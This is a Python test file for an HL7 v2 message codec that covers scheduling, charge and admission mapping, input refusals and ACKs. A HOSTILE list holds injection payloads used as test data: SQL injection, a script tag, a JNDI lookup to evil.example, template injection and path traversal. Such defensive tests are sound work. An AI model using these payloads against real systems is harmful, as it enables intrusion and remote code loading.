"""HL7 v2 codec rules, one small hand-written message at a time: mapping, ids, refusals, ACKs."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta, timezone
from zoneinfo import ZoneInfo

import hl7
import msgspec
import pytest

from caresync.bench.ingest import dft_message, run_ingest, synthetic_siu
from caresync.codecs import hl7v2
from caresync.codecs.hl7v2 import (
    CODES,
    Hl7Error,
    build_ack,
    decode_hl7,
    event_kind,
    mllp_frame,
)
from caresync.codecs.scheduling import (
    BookAppointment,
    ChargeLine,
    CloseAppointment,
    ModifyAppointment,
    PostCharges,
    ProcedureRef,
    RegisterVisit,
    RescheduleAppointment,
    VisitCharges,
)
from caresync.codecs.source import SourceCommand, SourceError

EST = timezone(timedelta(hours=-5))


def seg(name: str, fields: dict[int, str]) -> str:
    """One segment from {field number: raw value}; fields not given are empty."""
    last = max(fields, default=0)
    return "|".join([name, *(fields.get(n, "") for n in range(1, last + 1))])


def msh(event: str = "SIU^S12", version: str = "2.5.1", **extra: str) -> str:
    fields = {2: "SCHED", 3: "MAIN", 4: "CARESYNC", 5: "MAIN", 6: "20261124081500-0500"}
    fields |= {8: event, 9: "CTRL-1", 10: "P", 11: version}
    fields |= {int(k[1:]) - 1: v for k, v in extra.items()}
    return "MSH|^~\\&|" + "|".join(fields.get(n, "") for n in range(2, max(fields) + 1))


SCH = seg("SCH", {2: "A1001^HOSP", 6: "RSN^Knee pain", 25: "Booked"})
TQ1 = seg("TQ1", {7: "20261202073000-0500", 8: "20261202093000-0500"})
PID = seg("PID", {1: "1", 3: "MRN-1001^^^HOSP^MR~SSN-9^^^US^SS", 5: "DOE^JANE"})
PV1 = seg("PV1", {1: "1", 2: "O", 3: "MAIN-OR^OR-3^^MAIN", 19: "V-5501"})
IN1 = seg("IN1", {1: "1", 2: "PLAN-1", 3: "NORTHWIND-HMO"})
AIS = seg("AIS", {1: "1", 2: "A", 3: "27447^Total knee^CPT", 4: "20261202073000-0500", 7: "120"})
AIL = seg("AIL", {1: "1", 2: "A", 3: "OR^OR-3^^MAIN"})
AIP = seg("AIP", {1: "1", 2: "A", 3: "DR-PATEL^Patel^Raj"})
BOOK = [msh(), SCH, TQ1, PID, PV1, IN1, "RGS|1", AIS, AIL, AIP]


def hl7b(*lines: str, sep: str = "\r", charset: str = "utf-8") -> bytes:
    return sep.join(lines).encode(charset)


def one(data: bytes, **kw: object) -> SourceCommand:
    commands = decode_hl7(data, **kw)  # type: ignore[arg-type]
    assert len(commands) == 1
    return commands[0]


def refused(data: bytes, code: str, *fragments: str, **kw: object) -> Hl7Error:
    with pytest.raises(Hl7Error) as info:
        decode_hl7(data, **kw)  # type: ignore[arg-type]
    err = info.value
    assert err.code == code, err.reason
    for fragment in fragments:
        assert fragment in err.reason
    assert "\n" not in err.reason
    assert "\r" not in err.reason
    return err


def replace(lines: list[str], name: str, new: str | None) -> list[str]:
    """The lines with the segment ``name`` replaced (or dropped when ``new`` is None)."""
    out = [new if line.split("|")[0] == name else line for line in lines]
    return [line for line in out if line is not None]


# --- SIU mapping ------------------------------------------------------------------------------


def test_book_maps_every_field() -> None:
    cmd = one(hl7b(*BOOK))
    assert (cmd.kind, cmd.entity, cmd.source) == ("appointment.book", "HOSP:A1001", "hl7:SCHED")
    assert cmd.occurred_at == datetime(2026, 11, 24, 8, 15, tzinfo=EST)
    assert cmd.id.startswith("hl7:")
    assert cmd.payload == BookAppointment(
        procedures=(ProcedureRef(code="27447", provider_id="DR-PATEL"),),
        facility_id="MAIN",
        start=datetime(2026, 12, 2, 7, 30, tzinfo=EST),
        duration_min=120,
        room="OR-3",
        providers=("DR-PATEL",),
        patient_class="O",
        patient_id="MRN-1001",
        visit_number="V-5501",
        payer_id="NORTHWIND-HMO",
    )
    assert msgspec.json.decode(msgspec.json.encode(cmd.payload), type=BookAppointment) == (
        cmd.payload
    )


@pytest.mark.parametrize(
    ("sch2", "sender", "entity"),
    [("A1^NS", "SCHED", "NS:A1"), ("A1", "SCHED", "SCHED:A1"), ("A1", "", "A1")],
)
def test_appointment_id_is_namespace_qualified(sch2: str, sender: str, entity: str) -> None:
    lines = [msh().replace("|SCHED|", f"|{sender}|"), seg("SCH", {2: sch2}), *BOOK[2:]]
    cmd = one(hl7b(*lines))
    assert cmd.entity == entity
    assert cmd.source == ("hl7:SCHED" if sender else "hl7")


@pytest.mark.parametrize("sch", [seg("SCH", {1: "PLACER-1"}), seg("SCH", {2: "^HOSP"}), "SCH"])
def test_empty_filler_id_is_refused_never_invented(sch: str) -> None:
    err = refused(hl7b(*replace(BOOK, "SCH", sch)), "missing_id", "SCH-2.1 (filler appointment id)")
    assert err.kind == "appointment.book"
    assert err.entity == ""
    assert err.location == "SCH-2.1"


def test_siu_without_sch_is_refused_naming_sch() -> None:
    refused(hl7b(*replace(BOOK, "SCH", None)), "missing_segment", "SCH")


@pytest.mark.parametrize(
    ("event", "kind", "payload_type"),
    [
        ("S13", "appointment.reschedule", RescheduleAppointment),
        ("S14", "appointment.modify", ModifyAppointment),
        ("S15", "appointment.cancel", CloseAppointment),
        ("S17", "appointment.delete", CloseAppointment),
        ("S26", "appointment.no_show", CloseAppointment),
    ],
)
def test_siu_events(event: str, kind: str, payload_type: type) -> None:
    cmd = one(hl7b(msh(f"SIU^{event}"), *BOOK[1:]))
    assert (cmd.kind, cmd.entity) == (kind, "HOSP:A1001")
    assert isinstance(cmd.payload, payload_type)
    if payload_type is CloseAppointment:
        assert cmd.payload == CloseAppointment(reason="Knee pain")


def test_reschedule_carries_new_time_and_place() -> None:
    cmd = one(hl7b(msh("SIU^S13"), *BOOK[1:]))
    assert cmd.payload == RescheduleAppointment(
        start=datetime(2026, 12, 2, 7, 30, tzinfo=EST),
        facility_id="MAIN",
        room="OR-3",
        duration_min=120,
    )


def test_close_reason_falls_back_to_the_code() -> None:
    lines = replace(BOOK, "SCH", seg("SCH", {2: "A1001^HOSP", 6: "NOSHOW"}))
    assert one(hl7b(msh("SIU^S26"), *lines[1:])).payload == CloseAppointment(reason="NOSHOW")


@pytest.mark.parametrize("event", ["S16", "S18", "S12X"])
def test_other_siu_events_are_not_routed(event: str) -> None:
    refused(hl7b(msh(f"SIU^{event}"), *BOOK[1:]), "unsupported_event", f"SIU^{event}", "S26")


@pytest.mark.parametrize("mtype", ["ORU^R01", "MFN^M02", "RDE^O01", "RSP^K22", "BAR^P01"])
def test_other_message_types_are_not_routed(mtype: str) -> None:
    refused(hl7b(msh(mtype), *BOOK[1:]), "unsupported_message", mtype, "MSH-9")


def test_modify_follows_segment_action_codes() -> None:
    lines = [
        msh("SIU^S14"),
        SCH,
        "RGS|1",
        seg("AIS", {1: "1", 2: "A", 3: "27447"}),
        seg("AIS", {1: "2", 2: "U", 3: "29881"}),
        seg("AIS", {1: "3", 2: "D", 3: "20610"}),
        seg("AIS", {1: "4", 2: "X", 3: "99999"}),
        seg("AIS", {1: "5", 3: "88888"}),
        seg("AIL", {1: "1", 2: "U", 3: "OR^OR-9^^EAST"}),
        seg("AIP", {1: "1", 2: "A", 3: "DR-NEW"}),
        seg("AIP", {1: "2", 2: "D", 3: "DR-OLD"}),
        seg("AIP", {1: "3", 3: "DR-SAME"}),
    ]
    payload = one(hl7b(*lines)).payload
    assert payload == ModifyAppointment(
        facility_id="EAST",
        room="OR-9",
        procedures_added=(
            ProcedureRef(code="27447", provider_id="DR-NEW"),
            ProcedureRef(code="29881", provider_id="DR-NEW"),
        ),
        procedures_removed=("20610",),
        providers_added=("DR-NEW",),
        providers_removed=("DR-OLD",),
    )


def test_modify_without_actions_changes_only_what_it_carries() -> None:
    lines = [msh("SIU^S14"), SCH, TQ1, seg("AIL", {1: "1", 3: "OR^OR-1^^WEST"})]
    payload = one(hl7b(*lines)).payload
    assert payload == ModifyAppointment(
        start=datetime(2026, 12, 2, 7, 30, tzinfo=EST), duration_min=120
    )


def test_unknown_action_code_is_refused() -> None:
    lines = [msh("SIU^S14"), SCH, seg("AIS", {1: "1", 2: "Q", 3: "27447"})]
    refused(hl7b(*lines), "bad_value", "AIS-2", "'Q'")


def test_procedure_provider_comes_from_its_own_group() -> None:
    lines = [
        *BOOK[:6],
        "RGS|1",
        seg("AIS", {1: "1", 3: "111"}),
        seg("AIL", {1: "1", 3: "OR^1^^MAIN"}),
        seg("AIP", {1: "1", 3: "DOC-A"}),
        "RGS|2",
        seg("AIS", {1: "1", 3: "222"}),
        "RGS|3",
        seg("AIP", {1: "1", 3: "DOC-C"}),
    ]
    payload = one(hl7b(*lines)).payload
    assert payload.procedures == (
        ProcedureRef(code="111", provider_id="DOC-A"),
        ProcedureRef(code="222"),
    )
    assert payload.providers == ("DOC-A", "DOC-C")


def test_ais_without_code_is_refused() -> None:
    lines = replace(BOOK, "AIS", seg("AIS", {1: "1", 2: "A", 3: "^Knee"}))
    refused(hl7b(*lines), "missing_field", "AIS-3.1")


# --- start, duration, facility ----------------------------------------------------------------


def test_start_prefers_tq1_then_ais_then_sch11_below_v27() -> None:
    sch = seg("SCH", {2: "A1001^HOSP", 11: "^^^20261203080000-0500"})
    base = replace(replace(BOOK, "SCH", sch), "TQ1", None)
    ais = seg("AIS", {1: "1", 3: "27447", 4: "20261204080000-0500"})
    assert one(hl7b(*base)).payload.start.day == 2  # AIS-4 of the fixture
    assert one(hl7b(*replace(base, "AIS", ais))).payload.start.day == 4
    no_ais = replace(base, "AIS", None)
    assert one(hl7b(*no_ais)).payload.start.day == 3  # SCH-11.4 in v2.5.1
    with_tq1 = [*no_ais[:2], TQ1, *no_ais[2:]]
    assert one(hl7b(*with_tq1)).payload.start.day == 2
    v28 = [msh(version="2.8"), *no_ais[1:]]
    refused(hl7b(*v28), "missing_field", "no start time", "withdrawn")


def test_book_without_start_is_refused_with_kind_and_entity() -> None:
    lines = replace(replace(BOOK, "TQ1", None), "AIS", seg("AIS", {1: "1", 3: "27447"}))
    err = refused(hl7b(*lines), "missing_field", "TQ1-7", "AIS-4", "SCH-11.4")
    assert (err.kind, err.entity) == ("appointment.book", "HOSP:A1001")


@pytest.mark.parametrize(
    ("ais7", "ais8", "minutes"),
    [
        ("90", "", 90),
        ("2", "h", 120),
        ("1.5", "HOURS", 90),
        ("90", "s", 2),
        ("45", "min^Min^ISO", 45),
    ],
)
def test_duration_from_ais_in_its_units(ais7: str, ais8: str, minutes: int) -> None:
    ais = seg("AIS", {1: "1", 3: "27447", 7: ais7, 8: ais8})
    assert one(hl7b(*replace(BOOK, "AIS", ais))).payload.duration_min == minutes


def test_duration_falls_back_to_tq1_then_sch9() -> None:
    ais = seg("AIS", {1: "1", 3: "27447"})
    assert one(hl7b(*replace(BOOK, "AIS", ais))).payload.duration_min == 120  # TQ1-8 - TQ1-7
    no_tq1_end = replace(replace(BOOK, "AIS", ais), "TQ1", seg("TQ1", {7: "20261202073000-0500"}))
    assert one(hl7b(*no_tq1_end)).payload.duration_min == 0
    sch = seg("SCH", {2: "A1001^HOSP", 9: "1", 10: "h"})
    assert one(hl7b(*replace(no_tq1_end, "SCH", sch))).payload.duration_min == 60


def test_duration_errors_name_the_field() -> None:
    ais = seg("AIS", {1: "1", 3: "27447", 7: "90", 8: "fortnights"})
    refused(hl7b(*replace(BOOK, "AIS", ais)), "bad_value", "AIS-8", "fortnights")
    ais = seg("AIS", {1: "1", 3: "27447", 7: "ninety"})
    refused(hl7b(*replace(BOOK, "AIS", ais)), "bad_value", "AIS-7", "ninety")
    backwards = seg("TQ1", {7: "20261202093000-0500", 8: "20261202073000-0500"})
    no_ais7 = replace(BOOK, "AIS", seg("AIS", {1: "1", 3: "27447"}))
    refused(hl7b(*replace(no_ais7, "TQ1", backwards)), "bad_value", "TQ1-8", "before the start")


@pytest.mark.parametrize(
    ("ail3", "pv13", "facility", "room"),
    [
        ("OR^OR-3^^MAIN", "X^Y^^PV1FAC", "MAIN", "OR-3"),
        ("OR^OR-3", "X^Y^^PV1FAC", "OR", "OR-3"),
        ("", "WARD^B12^^EAST", "EAST", "B12"),
        ("", "WARD^B12", "WARD", "B12"),
        ("11&X-Ray Room&L^^^HOSP&1.2.3&ISO", "", "HOSP", ""),
    ],
)
def test_facility_and_room(ail3: str, pv13: str, facility: str, room: str) -> None:
    lines = replace(BOOK, "AIL", seg("AIL", {1: "1", 3: ail3}))
    lines = replace(lines, "PV1", seg("PV1", {2: "O", 3: pv13}))
    payload = one(hl7b(*lines)).payload
    assert (payload.facility_id, payload.room) == (facility, room)


def test_book_without_facility_is_refused() -> None:
    lines = replace(replace(BOOK, "AIL", None), "PV1", None)
    err = refused(hl7b(*lines), "missing_field", "no facility", "AIL-3", "PV1-3")
    assert (err.kind, err.entity) == ("appointment.book", "HOSP:A1001")


# --- timestamps -------------------------------------------------------------------------------


def test_timestamp_without_offset_is_in_the_default_zone() -> None:
    chicago = ZoneInfo("America/Chicago")
    lines = replace(BOOK, "TQ1", seg("TQ1", {7: "202612020730"}))
    lines[0] = lines[0].replace("20261124081500-0500", "20260701120000")
    cmd = one(hl7b(*lines), default_tz=chicago)
    assert cmd.payload.start == datetime(2026, 12, 2, 7, 30, tzinfo=chicago)
    assert cmd.payload.start.utcoffset() == timedelta(hours=-6)
    assert cmd.occurred_at is not None
    assert cmd.occurred_at.utcoffset() == timedelta(hours=-5)
    assert one(hl7b(*lines)).payload.start == datetime(2026, 12, 2, 7, 30, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("2026", datetime(2026, 1, 1, tzinfo=UTC)),
        ("20261202", datetime(2026, 12, 2, tzinfo=UTC)),
        (
            "20261202073015.1234+0215",
            datetime(
                2026, 12, 2, 7, 30, 15, 123400, tzinfo=timezone(timedelta(hours=2, minutes=15))
            ),
        ),
        (" 200803061000 ", datetime(2008, 3, 6, 10, 0, tzinfo=UTC)),
    ],
)
def test_timestamp_precisions(value: str, expected: datetime) -> None:
    lines = replace(BOOK, "TQ1", seg("TQ1", {7: value}))
    assert one(hl7b(*lines)).payload.start == expected


@pytest.mark.parametrize(
    "value",
    ["20261399", "196203520", "20260230", "2026120225", "20261202+2500", "2026-12-02", "NaN"],
)
def test_impossible_dates_are_refused_naming_the_field(value: str) -> None:
    lines = replace(BOOK, "TQ1", seg("TQ1", {7: value}))
    err = refused(hl7b(*lines), "bad_value", "TQ1-7", repr(value))
    assert err.location == "TQ1-7"


def test_msh7_is_required_and_validated() -> None:
    refused(hl7b(msh().replace("20261124081500-0500", ""), *BOOK[1:]), "malformed", "MSH-7")
    refused(hl7b(msh().replace("20261124081500-0500", "20261324"), *BOOK[1:]), "bad_value", "MSH-7")


# --- pre-parse: framing, delimiters, character sets, caps -------------------------------------


@pytest.mark.parametrize("sep", ["\r", "\n", "\r\n"])
def test_any_segment_separator_gives_the_same_command(sep: str) -> None:
    assert decode_hl7(hl7b(*BOOK, sep=sep)) == decode_hl7(hl7b(*BOOK))


def test_bom_mllp_framing_and_blank_lines_are_accepted() -> None:
    plain = decode_hl7(hl7b(*BOOK))
    assert decode_hl7(b"\xef\xbb\xbf" + hl7b(*BOOK)) == plain
    assert decode_hl7(mllp_frame(hl7b(*BOOK))) == plain
    assert decode_hl7(hl7b(*BOOK[:3], "", *BOOK[3:], "", "", sep="\n")) == plain


def test_nonstandard_delimiters_are_read_from_msh() -> None:
    lines = [line.replace("|", "$").replace("^", "%").replace("~", "*") for line in BOOK]
    lines[0] = lines[0].replace("MSH$%*\\&$", "MSH$%*\\&$")
    assert lines[0].startswith("MSH$%*\\&$SCHED$")
    assert decode_hl7(hl7b(*lines))[0].payload == one(hl7b(*BOOK)).payload


@pytest.mark.parametrize(
    ("head", "fragment"),
    [
        ("MSH|^~\\|", "must be 4 characters"),
        ("MSH|^~\\&&|", "'&' twice"),
        ("MSH|^~\\\\&|", "'\\\\' twice"),
        ("MSH|^~A&|", "not a letter or digit"),
        ("MSH|^~|&|", "must be 4 characters"),
        ("MSH|^~\\&^|", "'^' twice"),
        ("MSHA^~\\&A", "MSH-1"),
        ("MSH\r", "MSH-1"),
    ],
)
def test_bad_encoding_characters_are_refused(head: str, fragment: str) -> None:
    data = hl7b(msh().replace("MSH|^~\\&|", head, 1), *BOOK[1:])
    err = refused(data, "bad_encoding", fragment)
    assert err.location in ("MSH-1", "MSH-2")


def test_truncation_character_only_from_v27() -> None:
    lines = [msh(version="2.7").replace("^~\\&", "^~\\&#"), *BOOK[1:]]
    lines[1] = seg("SCH", {2: "A\\P\\1^HOSP"})
    assert one(hl7b(*lines)).entity == "HOSP:A#1"
    lines[0] = lines[0].replace("|2.7", "|2.5")
    refused(hl7b(*lines), "malformed", "MSH-2", "truncation", "2.5")


def test_field_separator_other_than_msh1_is_refused() -> None:
    lines = [*BOOK[:2], BOOK[2].replace("|", "#"), *BOOK[3:]]
    refused(hl7b(*lines), "malformed", "line 3", "field separator '|'")


def test_lowercase_segment_ids_are_refused() -> None:
    lines = [BOOK[0], BOOK[1].replace("SCH", "sch"), *BOOK[2:]]
    err = refused(hl7b(*lines), "malformed")
    assert err.reason == "segment 'sch' at line 2: segment ids are upper-case"


@pytest.mark.parametrize(
    "junk", [b"", b"\x00\x01\x02binary", b"hello world", b"\xff\xfeM\x00S\x00H\x00"]
)
def test_garbage_is_not_an_hl7_message(junk: bytes) -> None:
    refused(junk, "malformed", "does not start with an MSH segment")


@pytest.mark.parametrize("missing", [8, 11])
def test_truncated_msh_is_refused(missing: int) -> None:
    head = "|".join(msh().split("|")[:missing])
    refused(hl7b(head, *BOOK[1:]), "malformed", f"MSH-{missing + 1}", "truncated")


@pytest.mark.parametrize("version", ["2.3", "2.3.1", "2.4", "2.5", "2.6", "2.7.1", "2.8", "2.8.2"])
def test_supported_versions(version: str) -> None:
    assert one(hl7b(msh(version=version), *BOOK[1:])).kind == "appointment.book"


@pytest.mark.parametrize("version", ["2.1", "2.2", "2.9", "3.0", "abc", "", "2.5.1.1"])
def test_unsupported_versions_name_msh12(version: str) -> None:
    refused(hl7b(msh(version=version), *BOOK[1:]), "unsupported_version", "MSH-12")


def test_invalid_utf8_is_refused_with_its_offset() -> None:
    data = hl7b(*BOOK).replace(b"DOE^JANE", b"DO\xc3^JANE")
    offset = data.index(b"\xc3")
    refused(data, "bad_charset", f"byte {offset} ", "0xc3")


def test_latin1_bytes_are_never_guessed() -> None:
    data = hl7b(*BOOK).replace(b"DOE^JANE", b"DO\xe9^JANE")
    refused(data, "bad_charset", "not valid utf-8")


def test_declared_charsets_decode_strictly() -> None:
    lines = [msh(M18="8859/1"), *BOOK[1:]]
    lines[1] = seg("SCH", {2: "RÉSA-1^HÔPITAL"})
    assert one(hl7b(*lines, charset="latin-1")).entity == "HÔPITAL:RÉSA-1"
    lines[0] = msh(M18="UNICODE UTF-8")
    assert one(hl7b(*lines)).entity == "HÔPITAL:RÉSA-1"
    lines[0:2] = [msh(M18="8859/7"), seg("SCH", {2: "ΡΑΝΤΕΒΟΥ-1^ΝΟΣ"})]
    assert one(hl7b(*lines, charset="iso8859_7")).entity == "ΝΟΣ:ΡΑΝΤΕΒΟΥ-1"
    refused(hl7b(msh(M18="8859/3"), *BOOK[1:]).replace(b"DOE", b"D\xa5E"), "bad_charset", "byte")
    refused(hl7b(msh(M18="EBCDIC"), *BOOK[1:]), "bad_charset", "MSH-18", "EBCDIC")


def test_control_bytes_are_refused_with_their_offset() -> None:
    data = hl7b(*BOOK).replace(b"DOE^JANE", b"DOE\x00JANE")
    refused(data, "malformed", f"byte {data.index(0)} ", "0x00")


def test_a_one_megabyte_field_is_refused_naming_it() -> None:
    pid = seg("PID", {3: "MRN-1", 5: "A" * 1_000_000})
    err = refused(hl7b(*replace(BOOK, "PID", pid)), "too_large", "PID-5", "1,000,000 bytes")
    assert err.location == "PID-5"


def test_caps_on_size_repetitions_and_segments() -> None:
    refused(hl7b(*BOOK), "too_large", "limit", max_bytes=100)
    pid = seg("PID", {3: "~".join(["MRN"] * 1001)})
    refused(hl7b(*replace(BOOK, "PID", pid)), "too_large", "PID-3", "1,001 repetitions")
    notes = ["NTE|1||note"] * 2001
    refused(hl7b(*BOOK, *notes), "too_large", "2,011 segments", "2,000 limit")
    fields = seg("NTE", {1001: "x"})
    refused(hl7b(*BOOK, fields), "too_large", "NTE", "1,001 fields")


def test_second_msh_is_refused() -> None:
    refused(hl7b(*BOOK, *BOOK), "malformed", "second MSH", "split_messages")


# --- values -----------------------------------------------------------------------------------


HOSTILE = [
    "'; DROP TABLE appointments; --",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %}",
    "../../etc/passwd",
    "😀 emoji and ünïcödé",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_strings_are_data_kept_verbatim(text: str) -> None:
    escaped = text.replace("\\", "\\E\\").replace("|", "\\F\\").replace("^", "\\S\\")
    lines = [
        *BOOK[:1],
        seg("SCH", {2: f"{escaped}^HOSP", 6: f"^{escaped}"}),
        *BOOK[2:7],
        seg("AIS", {1: "1", 3: escaped, 4: "20261202073000-0500"}),
        seg("AIL", {1: "1", 3: f"^{escaped}^^{escaped}"}),
        seg("AIP", {1: "1", 3: escaped}),
    ]
    cmd = one(hl7b(*lines))
    assert cmd.entity == f"HOSP:{text}"
    assert cmd.payload.facility_id == text
    assert cmd.payload.room == text
    assert cmd.payload.procedures == (ProcedureRef(code=text, provider_id=text),)
    assert one(hl7b(msh("SIU^S15"), *lines[1:])).payload == CloseAppointment(reason=text)


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        ("A\\F\\B\\S\\C\\T\\D\\R\\E\\E\\F", "A|B^C&D~E\\F"),
        ("line1\\.br\\line2", "line1\nline2"),
        ("\\X414243\\", "ABC"),
        ("\\XC3A9\\", "é"),
        ("\\H\\bold\\N\\", "bold"),
        ('""', ""),
        ("C:\\temp\\dir", "C:\\temp\\dir"),
        ("lone\\", "lone\\"),
    ],
)
def test_escape_sequences_are_unescaped(raw: str, value: str) -> None:
    lines = replace(BOOK, "AIL", seg("AIL", {1: "1", 3: f"OR^R^^{raw}"}))
    if value:
        assert one(hl7b(*lines)).payload.facility_id == value
    else:
        assert one(hl7b(*lines)).payload.facility_id == "OR"  # "" is null: PL.1 is used


def test_hex_escape_in_the_message_charset() -> None:
    lines = [msh(M18="8859/1"), *replace(BOOK, "AIL", seg("AIL", {1: "1", 3: "OR^R^^\\XE9\\"}))[1:]]
    assert one(hl7b(*lines)).payload.facility_id == "é"
    bad = replace(BOOK, "AIL", seg("AIL", {1: "1", 3: "OR^R^^\\XZZ\\"}))
    refused(hl7b(*bad), "bad_value", "AIL-3.4", "hexadecimal")
    bad = replace(BOOK, "AIL", seg("AIL", {1: "1", 3: "OR^R^^\\XE9\\"}))
    refused(hl7b(*bad), "bad_value", "AIL-3.4", "utf-8")


# --- command ids ------------------------------------------------------------------------------


def test_resend_under_a_new_control_id_is_the_same_command() -> None:
    first = one(hl7b(*BOOK))
    resent = one(hl7b(BOOK[0].replace("CTRL-1", "CTRL-2"), *BOOK[1:]))
    assert first == resent
    assert one(hl7b(*BOOK, sep="\r\n")).id == first.id
    assert one(b"\xef\xbb\xbf" + hl7b(*BOOK) + b"\r").id == first.id


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("20261124081500", "20261124081501"),
        ("27447", "27448"),
        ("V-5501", "V-5502"),
        ("SIU^S12", "SIU^S14"),
    ],
)
def test_any_other_change_is_a_new_command(old: str, new: str) -> None:
    changed = hl7b(*BOOK).replace(old.encode(), new.encode(), 1)
    assert one(changed).id != one(hl7b(*BOOK)).id


# --- DFT --------------------------------------------------------------------------------------


def ft1(n: int, **fields: str) -> str:
    base = {1: str(n), 6: "CG", 7: "99213^Office visit^CPT", 10: "1", 11: "100&USD"}
    base |= {int(k[1:]): v for k, v in fields.items()}
    return seg("FT1", base)


def dft(*ft1s: str, pv1: str | None = PV1) -> bytes:
    lines = [msh("DFT^P03"), "EVN|P03|20261202120000", PID]
    if pv1 is not None:
        lines.append(pv1)
    return hl7b(*lines, *ft1s)


def test_charges_link_to_appointments_then_the_visit() -> None:
    cmds = decode_hl7(
        dft(
            ft1(1, f2="TX-1", f23="A1^HOSP"),
            ft1(2, f23="A2"),
            ft1(3),
            ft1(4, f23="A1^HOSP", f6="CD", f11="-25.50&USD"),
        )
    )
    assert [(c.kind, c.entity) for c in cmds] == [
        ("appointment.post_charges", "HOSP:A1"),
        ("appointment.post_charges", "SCHED:A2"),
        ("visit.post_charges", "V-5501"),
    ]
    assert len({c.id for c in cmds}) == 3
    assert cmds[0].payload == PostCharges(
        lines=(
            ChargeLine(line_id="TX-1", code="99213", quantity=1, amount="100"),
            ChargeLine(line_id=f"{cmds[0].id}:4", code="99213", type="credit", amount="-25.50"),
        )
    )
    assert cmds[2].payload == VisitCharges(
        lines=(ChargeLine(line_id=f"{cmds[2].id}:3", code="99213", amount="100"),)
    )


@pytest.mark.parametrize(
    ("fields", "amount", "currency", "quantity"),
    [
        ({"f11": "100&USD"}, "100", "USD", 1),
        ({"f11": "100.10&eur"}, "100.10", "EUR", 1),
        ({"f11": "100^CAD"}, "100", "CAD", 1),
        ({"f11": "100^UP"}, "100", "USD", 1),
        ({"f11": "", "f12": "12.25&USD", "f10": "4"}, "49.00", "USD", 4),
        ({"f11": "", "f12": "50", "f10": ""}, "50", "USD", 1),
        ({"f11": "7", "f10": "2.0"}, "7", "USD", 2),
    ],
)
def test_amounts_are_exact_decimal_text(
    fields: dict[str, str], amount: str, currency: str, quantity: int
) -> None:
    line = one(dft(ft1(1, **fields))).payload.lines[0]
    assert (line.amount, line.currency, line.quantity) == (amount, currency, quantity)


def test_a_charge_without_amount_is_refused_never_guessed() -> None:
    err = refused(dft(ft1(1, f11="", f12="")), "missing_field")
    assert "FT1-11 and FT1-12 are empty: no amount; caresync never guesses a charge" in err.reason


@pytest.mark.parametrize(
    ("fields", "code", "fragment"),
    [
        ({"f10": "two"}, "bad_value", "FT1-10"),
        ({"f10": "0"}, "bad_value", "FT1-10"),
        ({"f10": "1.5"}, "bad_value", "FT1-10"),
        ({"f10": "-1"}, "bad_value", "FT1-10"),
        ({"f11": "NaN&USD"}, "bad_value", "FT1-11.1"),
        ({"f11": "inf"}, "bad_value", "FT1-11.1"),
        ({"f11": "1e3&USD"}, "bad_value", "FT1-11.1"),
        ({"f11": "12,50&USD"}, "bad_value", "FT1-11.1"),
        ({"f11": "", "f12": "abc"}, "bad_value", "FT1-12.1"),
        ({"f11": "10&US"}, "bad_value", "FT1-11.1.2"),
        ({"f6": "PY"}, "bad_value", "FT1-6"),
        ({"f6": ""}, "missing_field", "FT1-6"),
        ({"f7": ""}, "missing_field", "FT1-7.1"),
    ],
)
def test_bad_charge_lines_are_refused(fields: dict[str, str], code: str, fragment: str) -> None:
    refused(dft(ft1(1, **fields)), code, fragment)


def test_charge_without_appointment_or_visit_is_refused() -> None:
    refused(dft(ft1(1), pv1=None), "missing_id", "FT1-23", "PV1-19")
    refused(dft(), "missing_segment", "FT1")


def test_duplicate_transaction_ids_are_refused() -> None:
    refused(dft(ft1(1, f2="TX"), ft1(2, f2="TX")), "bad_value", "'TX'")


def test_repeated_set_ids_fall_back_to_positions() -> None:
    cmd = one(dft(ft1(1), ft1(1)))
    assert [line.line_id for line in cmd.payload.lines] == [f"{cmd.id}:#1", f"{cmd.id}:#2"]


# --- ADT --------------------------------------------------------------------------------------


@pytest.mark.parametrize("event", ["A01", "A04", "A08"])
def test_adt_registers_the_visit(event: str) -> None:
    cmd = one(hl7b(msh(f"ADT^{event}"), "EVN|" + event, PID, PV1, IN1))
    assert (cmd.kind, cmd.entity) == ("visit.register", "V-5501")
    assert cmd.payload == RegisterVisit(
        payer_id="NORTHWIND-HMO", patient_class="O", location="MAIN:MAIN-OR"
    )


def test_adt_rules() -> None:
    no_visit = seg("PV1", {2: "E", 3: "ED"})
    refused(hl7b(msh("ADT^A04"), PID, no_visit), "missing_id", "PV1-19 (visit number) is empty")
    refused(hl7b(msh("ADT^A04"), PID), "missing_segment", "PV1")
    refused(hl7b(msh("ADT^A03"), PID, PV1), "unsupported_event", "ADT^A03")
    plain = seg("PV1", {2: "E", 3: "ED", 19: "V1"})
    in1 = seg("IN1", {1: "1", 2: "PLAN-9"})
    cmd = one(hl7b(msh("ADT^A04"), PID, plain, in1))
    assert cmd.payload == RegisterVisit(payer_id="PLAN-9", patient_class="E", location="ED")


# --- errors, ACKs, event kinds, API -----------------------------------------------------------


def test_errors_are_source_errors_with_known_codes() -> None:
    err = refused(hl7b(*replace(BOOK, "SCH", "SCH")), "missing_id")
    assert isinstance(err, SourceError)
    assert err.code in CODES


NOW = datetime(2026, 11, 24, 13, 15, tzinfo=UTC)


def test_ack_accept() -> None:
    ack = build_ack(hl7b(*BOOK), "AA", control_id="ACK-1", now=NOW)
    assert ack == (
        b"MSH|^~\\&|CARESYNC|MAIN|SCHED|MAIN|20261124131500+0000||ACK^S12^ACK|ACK-1|P|2.5.1\r"
        b"MSA|AA|CTRL-1|\r"
    )


def test_ack_error_escapes_the_reason() -> None:
    reason = "SCH-2.1 (filler id) is empty: A|B^C~D\\E&F\nnext"
    ack = build_ack(
        hl7b(*BOOK), "AE", reason, error_location="SCH-2.1", reason_code="missing_id", now=NOW
    )
    parsed = hl7.parse(ack.decode())
    assert str(parsed.segment("MSA")[2]) == "CTRL-1"
    err = parsed.segment("ERR")
    assert str(err[2]) == "SCH^1^2^1^1"
    assert str(err[3][0][0]) == "101"
    assert str(err[4]) == "E"
    assert parsed.unescape(str(err[8])) == reason.replace("\n", "\r")  # python-hl7: .br is CR
    assert ack.count(b"\r") == 3


@pytest.mark.parametrize(
    "original", [b"", b"\x00\xff garbage", b"MSH|", b"MSH|^~\\\\&|A|B|C|D|E||X|Y|"]
)
